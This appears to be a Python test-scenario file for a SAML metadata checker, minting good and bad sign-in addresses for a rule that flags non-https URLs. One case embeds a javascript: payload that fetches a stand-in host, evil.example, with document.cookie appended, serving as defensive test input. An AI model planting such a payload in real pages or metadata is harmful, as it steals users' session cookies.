"""Cases of MD008: addresses that are not https."""

from __future__ import annotations

from samlcheck.mint.metadata_habits import POST, REDIRECT
from samlcheck.mint.minter import Minter
from samlcheck.mint.scenarios.registry import bad, good


def at(location: str) -> list[tuple[str, str, str]]:
    """Two addresses to sign in at, of which the second is that one."""
    good = "https://idp.example.com/saml/sso"
    return [("SingleSignOnService", REDIRECT, good), ("SingleSignOnService", POST, location)]


@bad(outcome=None, trust="none", also=("MD007",))
def in_the_clear(idp: Minter) -> bytes:
    """The address begins with http://."""
    return idp.metadata(services=at("http://idp.example.com/saml/sso"))


@bad(outcome=None, trust="none", also=("MD007",))
def script(idp: Minter) -> bytes:
    """The address is a script, which a page that puts it into a form would run."""
    return idp.metadata(services=at("javascript:fetch('//evil.example/'+document.cookie)"))


@bad(outcome=None, trust="none", also=("MD007",))
def relative(idp: Minter) -> bytes:
    """The address is a path."""
    return idp.metadata(services=at("/saml/sso"))


@bad(outcome=None, trust="none", flavour="keycloak", also=("MD007",))
def without_a_host(idp: Minter) -> bytes:
    """Keycloak was told a wrong hostname: one slash, and no host."""
    return idp.metadata(services=at("https:/keycloak/realms/aws/protocol/saml"))


@good(outcome=None, trust="none", flavour="pingfederate", also=("MD007",))
def with_a_port(idp: Minter) -> bytes:
    """A port of its own is ordinary."""
    return idp.metadata()


@good(outcome=None, trust="none", flavour="google", also=("MD007",))
def with_a_query(idp: Minter) -> bytes:
    """So is a query."""
    return idp.metadata()
